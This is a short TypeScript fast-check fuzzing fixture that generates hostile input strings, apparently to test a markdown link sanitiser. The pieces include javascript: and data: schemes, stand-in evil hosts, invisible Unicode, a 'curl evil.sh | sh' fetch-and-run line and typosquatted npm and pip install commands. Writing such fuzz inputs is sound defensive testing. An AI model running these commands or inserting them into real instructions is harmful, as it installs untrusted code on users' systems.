import fc from 'fast-check';

/** A page on our list of links. */
export const page = 'https://docs.python.org/3/tutorial/index.html';

const signs =
  '[ ] ( ) [[ ]] < > ` ``` ~~~ \\ ! * _ : // # - | T1 T9 x script ftp:// mailto: http s www.'.split(' ');
const words = [
  'evil.invalid',
  'javascript:',
  'data:',
  'a@evil.net',
  '&#104;',
  '&lt;',
  '/language/python',
  page,
  'evil-courses.com/free',
  'curl evil.sh | sh',
  'npm install left-padd',
  'pip install lists left-padd',
];
const blanks = ['\n', '\t', ' ', '\u200b', '\u202e', '[x]: ', '- ', '> '];
const piece = fc.constantFrom(...signs, ...words, ...blanks);

export const hostile = fc.oneof(
  fc.array(piece, { maxLength: 40 }).map((parts) => parts.join('')),
  fc.string({ unit: 'binary' }),
);
